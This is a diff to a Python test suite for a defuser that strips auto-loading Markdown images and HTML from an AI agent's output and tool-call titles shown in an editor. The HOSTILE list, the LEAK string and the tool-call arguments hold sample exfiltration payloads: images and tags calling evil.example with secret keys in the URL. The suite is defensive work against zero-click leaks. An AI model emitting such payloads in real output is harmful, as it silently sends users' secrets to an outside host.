@@ -1,7 +1,8 @@
 """An editor renders the agent's Markdown, so an image in the model's text would be
 fetched as it is drawn: no click, no question, past every egress check (finding Q13).
 What reaches the editor is a link instead, and HTML that loads a URL is text; code
-the model writes (a fenced block, an inline span) is left as written."""
+the model writes in a fenced block is left as written; nothing else is trusted to be
+code (an inline span's end depends on the renderer: finding S4)."""
 
 from __future__ import annotations
 
@@ -19,7 +20,7 @@ from .conftest import EditorClient, Spawn
 pytestmark = pytest.mark.anyio
 
 LEAK = "Here: ![logo](https://evil.example/p.png?k=ghp_leak) and <img src=\"https://evil.example/i?d=SECRET\">"
-CODE = "\n```html\n<img src=\"a.png\"> ![b](b.png)\n```\nand `<img src=x>` stay.\n"
+CODE = "\n```html\n<img src=\"a.png\"> ![b](b.png)\n```\nand `Vec<String>` stays.\n"
 
 
 async def test_the_editor_gets_no_image_that_loads_itself(spawn: Spawn, script: Any, workspace: Path) -> None:
@@ -46,5 +47,93 @@ def test_split_anywhere_the_stream_says_the_same_as_the_whole() -> None:
         out = "".join(d.feed(whole[i : i + size]) for i in range(0, len(whole), size)) + d.flush()
         assert out == expected, size
     assert "\\![c](u)" in expected and "\\![escaped](u)" in expected and "\\\\!" not in expected
-    assert "&lt;IFRAME" in expected and "<imgx>" in expected
+    assert "&lt;IFRAME" in expected and "&lt;imgx>" in expected
     assert defang_images("\\\\![x](u)") == "\\\\\\![x](u)"  # an escaped backslash, then an image: escaped
+
+
+def defused(text: str) -> str:
+    d = ImageDefuser()
+    return d.feed(text) + d.flush()
+
+
+def live_images(markdown: str) -> list[str]:
+    """The images and tags an editor's CommonMark renderer (markdown-it, as VS Code's
+    and many editors') would load from ``markdown``."""
+    from markdown_it import MarkdownIt
+
+    html = MarkdownIt("commonmark").enable("table").render(markdown)
+    tags = re.findall(r"<[A-Za-z][^>]*>", html)
+    return [t for t in tags if re.match(r"<(?:img|iframe|video|audio|source|embed|object|script|link)\b", t)
+            or re.search(r"\s(?:style|background|src)=", t)]
+
+
+HOSTILE = [
+    "Note the tick ` here. ![x](https://evil.example/p.png?k=SECRETKEY1)",  # a span never closed
+    "    ```\n\nParagraph ![y](https://evil.example/q.png?k=SECRETKEY2)",  # an indented fence is no fence
+    "Two `` ticks unclosed ![z](https://evil.example/r.png?k=SECRETKEY5)",
+    "a `b\n-c` ![x](https://evil.example/s.png?k=K) `",  # the span's end is the renderer's call
+    "| `x | ![i](https://evil.example/t.png?k=K) | y` |\n|---|---|---|\n| 1 | 2 | 3 |",  # cells split first
+    "```a`\n![x](https://evil.example/u.png?k=K)\n",  # a backtick in the info string: no fence
+    "- a\n\n  ```\n  code\n![x](https://evil.example/v.png?k=K)\n",  # the list's fence ends with the list
+    '<div style="background-image:url(https://evil.example/w?k=K)">x</div>',
+    '<table background="https://evil.example/x?k=K"><tr><td>x</td></tr></table>',
+    "<div>\n```\n\n![x](https://evil.example/y.png?k=K)\n",  # an HTML block would hide the fence from us
+]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_no_stray_backtick_or_indent_lets_an_image_load_in_the_editor(text: str) -> None:
+    assert live_images(text), "the case must load something when sent as written"
+    assert live_images(defused(text)) == []
+    for size in (1, 3, 7):  # streamed in pieces: the same
+        d = ImageDefuser()
+        out = "".join(d.feed(text[i : i + size]) for i in range(0, len(text), size)) + d.flush()
+        assert out == defused(text), size
+
+
+def test_code_every_renderer_agrees_on_stays_as_written() -> None:
+    fenced = "Look:\n\n```html\n<img src=\"a.png\"> ![b](b.png)\n```\n\n~~~\n<iframe src=x>\n~~~\n"
+    assert defused(fenced) == fenced
+    assert defused("A `Vec<String>` or Option<T>.") == "A `Vec<String>` or Option<T>."
+    assert defused("Unclosed ```\nnot code ![x](u)") == "Unclosed ```\nnot code \\![x](u)"
+
+
+async def test_titles_and_option_names_carry_no_live_image(spawn: Spawn, script: Any,
+                                                           workspace: Path) -> None:
+    """Finding S10: editors render a tool call's title as Markdown too; read_file and
+    glob run unasked, so their titles went out at once."""
+    client = EditorClient()
+    client.answer = "reject_once"
+    calls = [
+        {"name": "read_file", "args": {"path": "![x](https://evil.example/p.png?k=SECRETKEY9)"}, "id": "r1"},
+        {"name": "glob", "args": {"pattern": "<img src=https://evil.example/g?k=SECRETKEY10>"}, "id": "g1"},
+        {"name": "write_file", "args": {"path": "a![w](https://evil.example/w.png?k=SECRETKEY12).md",
+                                        "content": "x"}, "id": "w1"},
+    ]
+    async with spawn(client, "--model", script([{"tool_calls": calls}, {"text": "ok"}])) as conn:
+        session = await conn.new_session(cwd=str(workspace), mcp_servers=[])
+        await conn.prompt(session_id=session.session_id, prompt=[TextContentBlock(type="text", text="hi")])
+    titles = [u.title for u in client.updates if getattr(u, "title", None)]
+    names = [o.name for _, options in client.permission_requests for o in options]
+    titles += [call.title for call, _ in client.permission_requests if call.title]
+    assert any("SECRETKEY9" in t for t in titles) and any("![w]" in n for n in names), (titles, names)
+    for shown in titles + names:
+        assert live_images(shown) == [], shown
+
+
+def test_random_markdown_of_hostile_pieces_never_loads_anything_once_defused() -> None:
+    """Whatever order a model puts backticks, fences, indents, lists, tables, HTML and
+    images in, the editor's renderer finds nothing to load (a seeded run: the same
+    documents every time)."""
+    import random
+
+    atoms = ["`", "``", "```", "~~~", "\n", "\n\n", "    ", "  ", " ", "- ", "> ", "1. ", "# ", "|", "---",
+             "\\", "![a](u)", "<img src=u>", "<div>", "<p style=x>", "text", "[r]: u", "![r]", "<!--", "-->",
+             "*", "<", "!", "[", "](u)"]
+    rnd = random.Random(21)
+    loaded = 0
+    for _ in range(3000):
+        text = "".join(rnd.choice(atoms) for _ in range(rnd.randint(1, 14)))
+        loaded += bool(live_images(text))
+        assert live_images(defused(text)) == [], repr(text)
+    assert loaded > 300  # the documents do hold live images as written
